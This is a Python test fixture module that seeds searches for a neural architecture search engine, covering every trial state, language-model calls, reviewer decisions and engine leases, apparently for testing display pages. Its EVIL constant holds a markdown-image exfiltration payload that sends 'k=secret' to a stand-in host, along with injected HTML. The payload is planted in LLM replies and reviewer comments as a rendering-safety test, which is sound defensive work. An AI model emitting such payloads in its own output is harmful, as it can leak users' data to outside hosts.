"""A workspace with a search in which everything has happened that a page must be able to show."""

from __future__ import annotations

import math
import subprocess
import sys
import time
from typing import Literal

from informer.config import Value, from_flat
from informer.records import Epoch, Failure, Progress, Success
from nas_engine.commands import Change, Command, Control, Decide, Enqueue, OnTrial, send
from nas_engine.evaluator import Verdict, decide
from nas_engine.proposals import Proposal, Source
from nas_engine.search import SearchSpec
from nas_engine.service.cost import Booking, Usage
from nas_engine.space import step_type
from nas_engine.store import calling, judging, proposing, trainings
from nas_engine.store.reader import reading
from nas_engine.store.rows import BaselineRow
from nas_engine.store.writer import Lease, Writer
from nas_engine.trainers.base import Ended, Worker
from nas_engine.workspace import Workspace

EVIL = (
    "See ![x](http://198.51.100.7/exfil.png?k=secret) [here](https://198.51.100.7/a) "
    "<img src='http://198.51.100.7/b.png'> :material/home: $x^2$ https://198.51.100.7/c"
)

BASELINES = [
    BaselineRow(name, split, mse, mae)
    for name, split, mse, mae in (
        ("linear map", "val", 0.3921, 0.4102),
        ("repeat last season", "val", 0.6610, 0.5204),
        ("repeat last value", "val", 1.3042, 0.7921),
        ("linear map", "test", 0.3387, 0.3701),
        ("repeat last season", "test", 0.5120, 0.4333),
        ("repeat last value", "test", 1.2943, 0.7133),
    )
]


class Seed:
    """Writes searches as the engine does."""

    def __init__(self, workspace: Workspace, **spec: object) -> None:
        self.spec = SearchSpec.model_validate({"settings": {"training.epochs": 6}, **spec})
        self.workspace = workspace
        self.writer = Writer(workspace)
        self.id = self.writer.open_search(self.spec)
        self.writer.add_baselines(self.id, BASELINES)
        self.writer.log(self.id, "The baselines are computed.")

    def close(self) -> None:
        self.writer.close()

    def propose(
        self,
        number: int,
        source: Source,
        parent: int | None = None,
        changes: dict[str, Value] | None = None,
        hypothesis: str = "A wider model should help.",
        reasons: str = "",
        waiting: bool = False,
    ) -> int:
        proposal = Proposal(
            source=source,
            parent=parent,
            changes=changes or {},
            hypothesis=hypothesis,
            reasons=reasons,
            expected=(-0.01, 0.05) if source == "llm" else None,
        )
        config = from_flat({**self.config(parent), **proposal.changes})
        self.writer.log(self.id, f"Trial {number} proposed by {source}.", number)
        return proposing.propose(self.writer, self.id, number, proposal, config, waiting)

    def config(self, number: int | None) -> dict[str, Value]:
        trial = None if number is None else self.writer.read.trial(self.id, number)
        return self.spec.base().flat() if trial is None else trial.config

    def train(self, number: int, *values: float, epochs: int = 6, device: str = "cpu") -> None:
        """Train a trial with a seed for each of `values`, with curves that fall to them."""
        for repeat, best in enumerate(values):
            run = trainings.begin_run(self.writer, self.id, number, 2021 + repeat)
            trainings.add_metrics(self.writer, self.id, number, run, curve(best, epochs))
            trainings.complete(
                self.writer,
                self.id,
                number,
                run,
                Success(
                    val_mse=best,
                    val_mae=best**0.5 * 0.66,
                    test_mse=best * 0.81,
                    test_mae=best**0.5 * 0.6,
                    best_epoch=epochs - 1,
                    epochs=epochs,
                    parameters=113_479 + 20_000 * number,
                    seconds=31.4 + 3 * number,
                    device=device,
                ),
            )
        self.judge(number)
        self.backdate(number, 33.0 + 3 * number)

    def measured(
        self,
        number: int,
        *values: float,
        parameters: int,
        latency: float,
        accepted: bool,
        rule: str = "",
    ) -> None:
        """Train and judge a trial as given, with its costs; FLOPs are ten for each parameter."""
        for repeat, value in enumerate(values):
            run = trainings.begin_run(self.writer, self.id, number, 2021 + repeat)
            trainings.add_metrics(self.writer, self.id, number, run, curve(value, 6))
            result = Success(
                val_mse=value,
                val_mae=value**0.5 * 0.66,
                test_mse=value * 0.81,
                test_mae=value**0.5 * 0.6,
                best_epoch=5,
                epochs=6,
                parameters=parameters,
                seconds=20.0 + number,
                device="cpu",
                latency_ms=latency,
                memory_mb=400.0 + number,
            )
            trainings.complete(self.writer, self.id, number, run, result)
            flops = (10.0 * parameters, run)
            self.sql("UPDATE runs SET flops = ? WHERE id = ?", flops)
        figures = judging.figures(self.writer.read, self.id, number)
        reason = "As the seed has it."
        verdict = Verdict(accepted, rule or ("first" if not number else "seeded"), reason, figures)
        assert judging.save_verdict(self.writer, self.id, number, verdict)
        self.backdate(number, 20.0)

    def judge(self, number: int) -> None:
        """Judge a trial by the rules, whose wish for another seed is not granted."""
        figures = judging.figures(self.writer.read, self.id, number)
        verdict = decide(figures, self.spec.rules.model_copy(update={"extra_seeds": 0}))
        assert isinstance(verdict, Verdict)
        judging.save_verdict(self.writer, self.id, number, verdict)
        self.writer.log(self.id, f"Trial {number}: {verdict.sentence}", number)

    def fail(self, number: int, error_class: str = "out_of_memory") -> None:
        begun = trainings.begin_run(self.writer, self.id, number, 2021)
        message = "The device ran out of memory; take a smaller batch or model."
        run = self.workspace.run_dir(self.id, number)
        run.path.mkdir(parents=True, exist_ok=True)
        run.log.write_text("loading ETTh1\nepoch 1\ntorch.OutOfMemoryError: CUDA out of memory\n")
        run.write_result(Failure(error_class="out_of_memory", message=message))
        ended = Ended("failed", error_class, message)
        trainings.end_without_result(self.writer, self.id, number, begun, ended)
        self.judge(number)
        self.writer.log(self.id, f"Trial {number} failed: {message}", number, "warning")
        self.backdate(number, 4.0)

    def running(self, number: int, epochs: int = 2) -> int:
        run = trainings.begin_run(self.writer, self.id, number, 2021)
        trainings.add_metrics(
            self.writer,
            *(self.id, number, run),
            [*curve(0.36, 6)[:epochs], Progress(epoch=epochs + 1, step=120, steps=268)],
        )
        return run

    def backdate(self, number: int, seconds: float) -> None:
        self.sql(
            "UPDATE trials SET started_at = ended_at - ? WHERE search_id = ? AND number = ?",
            (seconds, self.id, number),
        )

    def call(
        self,
        number: int,
        outcome: Literal["used", "refused", "failed"] | None,
        reply: str = "",
        problem: str = "",
        told: str = "",
    ) -> None:
        """Record an exchange with a language model; `outcome` None: the call was lost.

        The question ends with what was `told`.
        """
        attempt = 1 + sum(row.number == number for row in self.writer.read.llm_calls(self.id))
        messages = [
            {"role": "system", "content": "You plan the next trial of a search."},
            {
                "role": "user",
                "content": "Task: ETTh1, features M.\n" + "- trial 0: val_mse\n" * 30 + told,
            },
        ]
        call = calling.reserve_call(
            self.writer,
            search_id=self.id,
            number=number,
            role="planner",
            attempt=attempt,
            model="anthropic/claude-sonnet-4.5",
            messages=messages,
            worst=Booking(9096, 0.07644),
            base_url="https://openrouter.ai/api/v1",
            temperature=None,
            max_tokens=4096,
        )
        if outcome is not None:
            calling.finish_call(
                self.writer,
                call,
                outcome,
                reply,
                problem,
                2.31,
                usage=Usage(1840, 212, 0.00871),
                booked=Booking(2052, 0.00871),
            )

    def lease(self, alive: bool, pid: int | None = None, silent: float = 0.0) -> None:
        """Give the search an engine: process `pid` (this one), or one that has ended.

        It has shown that it lives `silent` seconds ago.
        """
        if alive:
            self.writer.take_lease(self.id, pid)
            self.writer.beat(412.0)
            silence = (silent, self.id)
            self.sql("UPDATE engines SET heartbeat = heartbeat - ? WHERE search_id = ?", silence)
            return
        ended = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
        self.writer.take_lease(self.id, ended.pid)
        ended.communicate(b"\n")

    def asked(self, command: Command, answer: str, applied: bool = True) -> None:
        """Record that somebody gave a command and what was answered."""
        self.writer.answer(send(self.workspace, command, self.id), applied, answer)

    def sql(self, statement: str, parameters: tuple[object, ...] = ()) -> None:
        """Change what no engine would have to."""
        self.writer.execute(statement, parameters)


def curve(best: float, epochs: int) -> list[Progress | Epoch]:
    """Return epochs whose val_mse has its least value, `best`, at the last but one."""
    rows: list[Progress | Epoch] = []
    for epoch in range(1, epochs + 1):
        above = 0.22 * math.exp(-0.8 * epoch) + (0.01 if epoch == epochs else 0.0)
        value = best if epoch == epochs - 1 else best + above
        rows.append(
            Epoch(
                epoch=epoch,
                train_loss=None if epoch == 2 and best > 0.6 else 0.3 + 0.4 * math.exp(-epoch / 2),
                val_mse=value,
                val_mae=value**0.5 * 0.66,
                lr=1e-4 / 2**epoch,
                seconds=5.2,
            )
        )
    return rows


def eventful(workspace: Workspace, alive: bool | None = None) -> int:
    """Seed a search with a trial of every kind, and return its id.

    Args:
        workspace: where.
        alive: whether its engine lives; None: it has none.
    """
    seed = Seed(workspace, planner="hybrid", mode="review", max_trials=20)
    writer = seed.writer
    start = "The starting configuration is the reference for every change."
    seed.propose(0, "default", hypothesis=start)
    seed.train(0, 0.6962, 0.7012, 0.7062)
    proposal = seed.propose(1, "tpe", 0, {"model.normalisation": "standardise"}, waiting=True)
    proposing.decide(writer, proposal, 1, "approved", "ada", "", None)
    seed.train(1, 0.4481)
    proposal = seed.propose(2, "tpe", 1, {"model.d_model": 128, "model.d_ff": 512}, waiting=True)
    proposing.decide(writer, proposal, 1, "approved", "ada", "", None)
    seed.fail(2)
    proposal = seed.propose(3, "llm", 1, {"model.dropout": 0.5}, EVIL, EVIL, waiting=True)
    seed.call(3, "refused", "I would try dropout.", "The reply holds no JSON object.")
    seed.call(3, "used", f'{{"hypothesis": "{EVIL}", "changes": []}}')
    proposing.decide(
        writer, proposal, 1, "rejected", "ada", "Half of the units is too many. " + EVIL, None
    )
    changes: dict[str, Value] = {"training.optimizer_params.lr": 0.001}
    proposal = seed.propose(4, "tpe", 1, changes, waiting=True)
    edited: dict[str, Value] = {"training.optimizer_params.lr": 0.0005, "data.batch_size": 64}
    config = from_flat({**seed.config(1), **edited})
    proposing.decide(
        writer, proposal, 1, "edited", "ada", "Less.", (edited, config, step_type(edited))
    )
    seed.train(4, 0.4502, device=EVIL)
    proposal = seed.propose(
        5, "fallback", 1, {"model.e_layers": 3}, reasons="No answer.", waiting=True
    )
    seed.call(5, "failed", "", "429: too many requests")
    seed.call(5, None)
    proposing.decide(writer, proposal, 1, "approved", "ada", "", None)
    lost = trainings.begin_run(writer, seed.id, 5, 2021)
    crashed = Ended("crashed", "process lost", "The worker was lost.")
    trainings.end_without_result(writer, seed.id, 5, lost, crashed)
    seed.judge(5)
    proposal = seed.propose(
        6, "llm", 1, {"data.seq_len": 168, "model.attention": "full"}, waiting=True
    )
    seed.call(6, "used", '{"hypothesis": "A longer look-back", "changes": []}')
    proposing.decide(writer, proposal, 1, "approved", "ada", "Good idea.", None)
    seed.train(6, 0.3876)
    proposal = seed.propose(7, "tpe", 6, {"training.scheduler_class": "Constant"}, waiting=True)
    proposing.decide(writer, proposal, 1, "approved", "ada", "", None)
    seed.running(7)
    seed.propose(
        8,
        "llm",
        6,
        {"model.d_model": 128, "model.dropout": 0.15, "training.criterion_class": "HuberLoss"},
        "A wider model with a robust loss should lower val_mse by about 2 %, since residuals of "
        "trial 6 have heavy tails.",
        "Trials 1 and 6 improved by structure, not by size; the curves of trial 6 still fall at "
        "the last epoch, so capacity is not exhausted.\n" + EVIL,
        waiting=True,
    )
    if alive is not None:
        seed.lease(alive)
    seed.close()
    return seed.id


def busy(workspace: Workspace, alive: bool = True, silent: float = 0.0) -> int:
    """Seed a search with two slots that train, a queue and trials that ended early; its id."""
    seed = Seed(
        workspace,
        planner="tpe",
        slots=2,
        max_trials=12,
        pruning={"method": "successive_halving"},
        limits={"hours": 0.25, "training_hours": 2.0},
    )
    seed.sql("UPDATE searches SET active_seconds = 412 WHERE id = ?", (seed.id,))
    widths = (64, 128, 32, 256, 96, 80, 160, 48, 112)
    for number, width in enumerate(widths):
        changes: dict[str, Value] = {"model.d_ff": width} if number else {}
        seed.propose(number, "tpe" if number else "default", 0 if number else None, changes)
    seed.train(0, 0.4962, 0.5012, 0.5062)
    seed.train(1, 0.4481)
    for number, state, sentence in (
        (2, "pruned", "Fell behind the others at epoch 2."),
        (3, "stopped", "Stopped by a person."),
    ):
        run = seed.running(number)
        ended = Ended(state, state, sentence)
        trainings.end_without_result(seed.writer, seed.id, number, run, ended)
        seed.judge(number)
    seed.fail(4)
    for slot, number in enumerate((5, 6)):
        run = seed.running(number, epochs=2 + slot)
        trainings.set_worker(
            seed.writer, run, Worker(pid=41_200 + slot, process_start=0.0, slot=slot)
        )
    seed.writer.to_front(seed.id, 8)
    seed.asked(Change(slots=2, limits={"hours": 0.25}), "Changed: slots 2, hours 0.25.")
    seed.asked(OnTrial(kind="stop_trial", number=3, comment=EVIL), "Trial 3 is being stopped.")
    seed.asked(OnTrial(kind="to_front", number=8), "Trial 8 is the next.")
    seed.asked(Control(kind="pause", version=1), "The search has changed meanwhile.", False)
    seed.asked(Enqueue(parent=1, changes={"model.d_ff": 112}), "Trial 8 is queued.")
    seed.asked(Decide(proposal_id=2, version=1, decision="approved"), "Trial 1 is approved.")
    seed.lease(alive, silent=silent)
    seed.close()
    return seed.id


def traded(
    workspace: Workspace,
    at_most: dict[str, float] | None = None,
    objectives: tuple[str, ...] = ("val_mse", "parameters", "latency_ms"),
    alive: bool | None = None,
) -> int:
    """Seed a search that trades the error against costs, and return its id.

    With both costs its front is 5, 3 and 2: 1 was on it, 4 was rejected, 6 was too slow, 7 trains.
    """
    seed = Seed(
        workspace,
        planner="tpe",
        max_trials=30,
        objectives=objectives,
        at_most=at_most or {},
        settings={"training.epochs": 6, "data.pred_len": 24},
    )
    changes: list[dict[str, Value]] = [
        {},
        {"model.normalisation": "standardise"},
        {"model.d_model": 16, "model.n_heads": 2},
        {"model.d_model": 32, "model.d_ff": 64},
        {"model.dropout": 0.3},
        {"model.normalisation": "standardise", "model.d_ff": 512},
        {"model.e_layers": 4, "model.d_model": 128},
        {"model.d_model": 32, "model.d_ff": 96},
    ]
    for number, changed in enumerate(changes):
        seed.propose(number, "tpe" if number else "default", 0 if number else None, changed)
    seed.measured(0, 0.6962, 0.7012, parameters=64_000, latency=4.1, accepted=True)
    seed.measured(1, 0.4481, parameters=64_100, latency=4.2, accepted=True)
    seed.measured(2, 0.5210, parameters=9_800, latency=1.6, accepted=True)
    seed.measured(3, 0.4402, 0.4422, parameters=21_400, latency=2.2, accepted=True)
    seed.measured(4, 0.6102, parameters=64_000, latency=4.0, accepted=False, rule="dominated")
    seed.measured(5, 0.3876, parameters=188_000, latency=6.3, accepted=True)
    run = trainings.begin_run(seed.writer, seed.id, 6, 2021)
    ended = Ended("pruned", "infeasible", "A forecast takes 12.3 ms, and this search allows 8.")
    trainings.end_without_result(seed.writer, seed.id, 6, run, ended)
    seed.sql("UPDATE runs SET latency_ms = 12.3 WHERE id = ?", (run,))
    seed.running(7)
    if alive is not None:
        seed.lease(alive)
    seed.close()
    return seed.id


def small(workspace: Workspace, trials: int = 1) -> int:
    """Seed a search of a few good trials in auto mode, and return its id."""
    seed = Seed(workspace, planner="tpe", max_trials=5, settings={"data.pred_len": 48})
    for number in range(trials):
        changes: dict[str, Value] = {"model.dropout": 0.1 * number} if number else {}
        seed.propose(number, "tpe" if number else "default", 0 if number else None, changes)
        seed.train(number, 0.5 - 0.02 * number)
    seed.close()
    return seed.id


def all_failed(workspace: Workspace) -> int:
    """Seed a search without a single result, and return its id."""
    seed = Seed(workspace, planner="random", max_trials=3, settings={"data.pred_len": 96})
    for number in range(2):
        changes: dict[str, Value] = {"model.dropout": 0.3} if number else {}
        seed.propose(number, "random" if number else "default", None, changes)
        seed.fail(number)
    seed.close()
    return seed.id


def untouched(workspace: Workspace) -> int:
    """Seed a search that has only just been created, and return its id."""
    seed = Seed(workspace, settings={"data.pred_len": 192})
    seed.sql("DELETE FROM baselines WHERE search_id = ?", (seed.id,))
    seed.close()
    return seed.id


if __name__ == "__main__":  # for looking at the pages: a workspace whose engine seems to live
    from pathlib import Path

    place = Workspace(Path(sys.argv[1]))
    all_failed(place), small(place, 3)
    keepers = []
    traded(place)
    traded(place, {"parameters": 50_000.0}, ("val_mse",))
    for number in (
        *(eventful(place, alive=True), busy(place)),
        traded(place, {"latency_ms": 8.0}, alive=True),
    ):
        with reading(place) as reader:
            engine = reader.engine(number) if reader else None
        assert engine is not None
        keepers.append(Writer(place, Lease(number, engine.token)))
    while True:
        for keeper in keepers:
            keeper.beat(1.0)
        time.sleep(1)
